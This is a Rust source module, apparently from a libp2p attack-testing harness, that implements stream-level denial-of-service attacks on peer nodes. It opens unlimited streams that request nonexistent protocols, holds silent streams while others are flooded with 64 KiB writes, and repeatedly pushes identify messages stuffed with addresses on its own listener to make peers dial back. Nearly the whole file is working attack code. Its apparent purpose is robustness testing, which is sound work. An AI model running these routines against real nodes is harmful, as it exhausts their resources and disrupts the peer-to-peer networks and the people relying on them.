//! Attacks on streams below the link protocol.

use std::net::Ipv4Addr;
use std::time::Duration;

use anyhow::Result;
use futures::{AsyncReadExt as _, AsyncWriteExt as _};
use libp2p::identity::Keypair;
use tokio::net::TcpListener;

use super::connection::{Connection, source};
use super::links;
use super::peer::{Attacker, TURNED_AWAY, lanes, over};
use super::stream::{HEADER, line, varint};

/// Connections at once on which streams are opened.
const OPENERS: usize = 8;
/// Connections whose streams are stuffed.
const STUFFED: usize = 14;
/// Streams of each of them, of which the first say nothing: those that are stuffed wait behind them, unread.
const STUFFED_STREAMS: usize = 64;
const SILENT_STREAMS: usize = 16;
/// How long a stuffed stream that takes no more is held.
const HELD: Duration = Duration::from_secs(60);
/// Connections at once that push addresses.
const PUSHERS: usize = 8;
/// What identify reads of one push.
const PUSH_BYTES: usize = 4_096;
/// The protocol of a push; <https://github.com/libp2p/specs/blob/master/identify/README.md>
const PUSH: &str = "/ipfs/id/push/1.0.0";
/// The number of `listenAddrs` in its message, as a protobuf tag of bytes.
const LISTEN_ADDRESS: u64 = 2 << 3 | 2;

/// Opens streams without end: every second one says nothing, the others ask for a protocol that nobody speaks.
pub(super) async fn unspoken(attacker: &Attacker) {
    lanes(OPENERS, async |lane| {
        let keypair = Keypair::generate_ed25519();
        loop {
            if let Ok(connection) = attacker.connect(lane, over(lane), &keypair).await {
                tokio::join!(links::hold(&connection, lane), open_all(attacker, &connection));
            }
            tokio::time::sleep(TURNED_AWAY).await;
        }
    })
    .await;
}

async fn open_all(attacker: &Attacker, connection: &Connection) {
    let mut kept = Vec::new();
    while let Ok(mut stream) = connection.open().await {
        attacker.on_tried();
        if kept.len().is_multiple_of(2) {
            let asked = [line(HEADER), line("/nobody/speaks/this")].concat();
            if stream.write_all(&asked).await.is_ok() {
                stream.flush().await.ok();
            }
        }
        kept.push(stream);
        if kept.len() > STUFFED_STREAMS {
            kept.drain(..STUFFED_STREAMS / 2);
        }
    }
}

/// Fills the streams of a few connections, each with a link, as far as they take it.
pub(super) async fn stuffed(attacker: &Attacker) {
    lanes(STUFFED, async |lane| {
        let keypair = Keypair::generate_ed25519();
        loop {
            if let Ok(connection) = attacker.connect(lane, over(lane), &keypair).await {
                let streams = lanes(STUFFED_STREAMS, |number| stuff(attacker, &connection, number));
                tokio::join!(links::hold(&connection, lane), streams);
            }
            tokio::time::sleep(TURNED_AWAY).await;
        }
    })
    .await;
}

/// Says the header of a negotiation and nothing more, or whatever.
async fn stuff(attacker: &Attacker, connection: &Connection, number: usize) {
    let Ok(mut stream) = connection.open().await else {
        return;
    };
    attacker.on_tried();
    if number < SILENT_STREAMS {
        if stream.write_all(&line(HEADER)).await.is_ok() && stream.flush().await.is_ok() {
            tokio::time::sleep(HELD).await;
        }
        return;
    }
    let bytes = vec![b'x'; 64 * 1024];
    while stream.write_all(&bytes).await.is_ok() {
        attacker.on_taken();
    }
    tokio::time::sleep(HELD).await;
}

/// Pushes addresses of this machine again and again, and counts who comes there.
pub(super) async fn addresses(attacker: &Attacker) -> Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)).await?;
    let port = listener.local_addr()?.port();
    let push = push(port)?;
    let pushers = lanes(PUSHERS, async |lane| {
        let keypair = Keypair::generate_ed25519();
        loop {
            if let Ok(connection) = attacker.connect(lane, over(lane), &keypair).await {
                tokio::select! {
                    () = links::hold(&connection, lane) => {}
                    () = push_all(attacker, &connection, &push) => {}
                }
            }
            tokio::time::sleep(TURNED_AWAY).await;
        }
    });
    let visitors = async {
        while listener.accept().await.is_ok() {
            attacker.on_dialled();
        }
    };
    tokio::join!(pushers, visitors);
    Ok(())
}

async fn push_all(attacker: &Attacker, connection: &Connection, push: &[u8]) {
    while let Ok(mut stream) = connection.open_for(PUSH).await {
        attacker.on_tried();
        if stream.write_all(push).await.is_ok() && stream.close().await.is_ok() {
            // It ends when the other end has read it.
            stream.read_exact(&mut [0]).await.ok();
        }
    }
}

/// An identify message with as many addresses as it holds, all of a place that counts its visitors.
fn push(port: u16) -> Result<Vec<u8>> {
    let mut message = Vec::new();
    for number in 0..u16::MAX {
        let address: libp2p::Multiaddr = format!("/ip4/{}/tcp/{port}", source(number)).parse()?;
        let bytes = address.to_vec();
        let field = [varint(LISTEN_ADDRESS), varint(bytes.len() as u64), bytes].concat();
        if message.len() + field.len() > PUSH_BYTES {
            break;
        }
        message.extend(field);
    }
    Ok([varint(message.len() as u64), message].concat())
}
